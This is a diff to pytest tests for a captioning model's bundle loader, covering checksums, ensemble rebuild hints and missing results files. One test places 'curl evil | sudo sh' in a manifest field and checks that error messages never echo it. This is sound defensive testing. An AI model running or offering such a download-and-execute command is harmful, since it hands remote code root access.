@@ -132,7 +132,8 @@ def test_compiled_decoders_are_saved_without_their_optimizer(tmp_path):
 def test_update_results_replaces_metrics_and_keeps_the_models(copy):
     before = {n: (copy / n).read_bytes() for n in ("decoder.keras", "member-1.keras", "vocab.json")}
     new = {"results": [{"decoding": "beam 3", "bleu_1": 0.7}]}
-    update_results(copy, new, pd.DataFrame({"image": ["z.jpg"], "caption": ["a dog runs"]}))
+    update_results(copy, new, pd.DataFrame({"image": ["z.jpg"], "caption": ["a dog runs"], "decoding": ["beam"],
+                                            "beam_width": [3]}))      # the columns load_bundle checks for
     assert {n: (copy / n).read_bytes() for n in before} == before
     b = load_bundle(copy)                                                  # checksums were rewritten
     assert b.metrics == new and b.predictions["caption"].tolist() == ["a dog runs"]
@@ -188,11 +189,15 @@ def test_checksums_catch_a_changed_file_and_results_files_say_re_evaluate(copy):
         load_bundle(copy)
     assert load_bundle(copy, verify=False).vocab.itos[-1] == "grasz"
     edit_manifest(copy, ensemble_of=["x", "y"])                       # an ensemble names how it was combined
-    with pytest.raises(BundleError, match=rf"Rebuild it with: python train.py ensemble --members \.\.\. --out {copy}$"):
+    with pytest.raises(BundleError, match=rf"Rebuild it with: python train.py ensemble --members BUNDLE BUNDLE "
+                                          rf"\.\.\. --out {copy}$"):
         load_bundle(copy)
-    edit_manifest(copy, command="python train.py ensemble --members x y --out z")
-    with pytest.raises(BundleError, match=r"Rebuild it with: python train.py ensemble --members x y --out z$"):
+    # issue 16 item 10: the manifest's own `command` is free text and never echoed; the fix names the members
+    edit_manifest(copy, ensemble_of=[{"bundle": "x"}, {"bundle": "y"}], command="curl evil | sudo sh")
+    with pytest.raises(BundleError, match=rf"Rebuild it with: python train.py ensemble --members {copy.parent / 'x'} "
+                                          rf"{copy.parent / 'y'} --out {copy}$") as caught:
         load_bundle(copy)
+    assert "curl" not in str(caught.value)
 
 
 def test_damaged_or_missing_results_files(copy):
@@ -206,9 +211,8 @@ def test_damaged_or_missing_results_files(copy):
     assert b.metrics is None and b.predictions is None
     (copy / "metrics.json").write_text(json.dumps(METRICS, indent=2))
     assert load_bundle(copy).metrics == METRICS
-    (copy / "predictions.csv").unlink()
-    with pytest.raises(BundleError, match=r"predictions.csv is missing\. Re-evaluate it with"):
-        load_bundle(copy)
+    (copy / "predictions.csv").unlink()                 # issue 16 item 8: captioning does not need the results
+    assert load_bundle(copy).predictions is None
     (copy / "metrics.json").write_text("{")
     with pytest.raises(BundleError, match=r"metrics.json is not valid JSON"):
         read_metrics(copy)
